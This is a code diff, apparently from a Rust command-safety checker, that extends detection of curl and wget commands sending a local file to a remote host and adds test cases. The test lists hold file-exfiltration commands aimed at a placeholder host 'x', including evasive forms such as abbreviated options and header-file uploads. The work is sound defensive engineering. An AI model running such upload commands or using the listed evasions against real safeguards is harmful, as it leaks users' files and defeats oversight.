@@ -20,6 +20,11 @@ pub(super) const SAFEGUARD: Safeguard = Safeguard {
         "curl -F file=@f http://x",
         "curl -F 'a=<f' http://x",
         "curl --json @f http://x",
+        "curl --url-query @f http://x",
+        "curl --url-query q@f http://x",
+        "curl -H @f http://x",
+        "curl --variable x@f --expand-data '{{x}}' http://x",
+        "curl --data-b @f http://x",
         "curl -d @- http://x < f",
         "cat f | curl --data-binary @- http://x",
         "wget --post-file=f http://x",
@@ -34,6 +39,8 @@ pub(super) const SAFEGUARD: Safeguard = Safeguard {
         "curl -d a=b http://x",
         "curl -d '{\"mail\":\"a@b\"}' http://x",
         "curl --data-raw @f http://x",
+        "curl --url-query q=a@b http://x",
+        "curl -H 'Accept: */*' http://x",
         "curl -d @f http://localhost:3000/api",
         "curl -F file=@f 127.0.0.1:8080/up",
         "curl -d @- http://x <<'EOF'\n{}\nEOF",
@@ -68,23 +75,59 @@ fn hits(command: &Command<'_>) -> bool {
 /// Options of curl that take a value, so that letters in a value are not read as options.
 const CURL: Valued = Valued {
     short: "AbcCdDeEFhHKmoPQrtTuUwxXyYz",
-    long: &["upload-file", "data", "data-ascii", "data-binary", "data-urlencode", "data-raw", "json", "form"],
+    long: &[
+        "upload-file",
+        "data",
+        "data-ascii",
+        "data-binary",
+        "data-urlencode",
+        "data-raw",
+        "json",
+        "form",
+        "form-string",
+        "url-query",
+        "variable",
+        "header",
+        "proxy-header",
+    ],
 };
 
+/// Long options of curl whose value is `@file` or data, `name@file` or data, a field of a form.
+const DATA: &[&str] = &["data", "data-ascii", "data-binary", "json", "header", "proxy-header"];
+const ENCODED: &[&str] = &["data-urlencode", "url-query", "variable"];
+const FORM: &[&str] = &["form"];
+
+/// Whether a long option is one of these, or may be cut short from one. Data as it stands is none of them.
+fn is_one(name: &str, of: &[&str]) -> bool {
+    let short = |full: &&str| name.len() > 3 && full.starts_with(name);
+    name != "data-raw" && name != "form-string" && (of.contains(&name) || of.iter().any(short))
+}
+
 fn sends_by_curl(command: &Command<'_>, reading: &Invocation) -> bool {
-    read(reading.args(), CURL).any(|argument| match argument {
-        Argument::Short('T', _) => true,
-        Argument::Short('d', Some(data)) => is_file(command, data),
-        Argument::Short('F', Some(form)) => form.contains("=@") || form.contains("=<"),
-        Argument::Long(name, Some(value)) => match name {
-            "upload-file" => true,
-            "data" | "data-ascii" | "data-binary" | "json" => is_file(command, value),
-            "data-urlencode" => value.split('=').next().is_some_and(|name| name.contains('@')),
-            "form" => value.contains("=@") || value.contains("=<"),
-            _ => false,
-        },
-        Argument::Short(..) | Argument::Long(..) | Argument::Operand(_) => false,
-    })
+    // Long options may be cut short, and their value is the next word all the same.
+    let cut_short = reading.args().windows(2).any(|pair| match pair {
+        [option, value] => {
+            known(option).strip_prefix("--").is_some_and(|name| sends(command, name, known(value)))
+        }
+        _ => false,
+    });
+    cut_short
+        || read(reading.args(), CURL).any(|argument| match argument {
+            Argument::Short('T', _) => true,
+            Argument::Short('d' | 'H', Some(data)) => is_file(command, data),
+            Argument::Short('F', Some(form)) => form.contains("=@") || form.contains("=<"),
+            Argument::Long(name, Some(value)) => {
+                is_one(name, &["upload-file"]) || sends(command, name, value)
+            }
+            Argument::Short(..) | Argument::Long(..) | Argument::Operand(_) => false,
+        })
+}
+
+/// Whether a long option of curl with this value sends a file.
+fn sends(command: &Command<'_>, name: &str, value: &str) -> bool {
+    is_one(name, DATA) && is_file(command, value)
+        || is_one(name, ENCODED) && value.split('=').next().is_some_and(|name| name.contains('@'))
+        || is_one(name, FORM) && (value.contains("=@") || value.contains("=<"))
 }
 
 /// Whether data for curl is a file. `@-` is what comes in; text that stands in the line is no file.
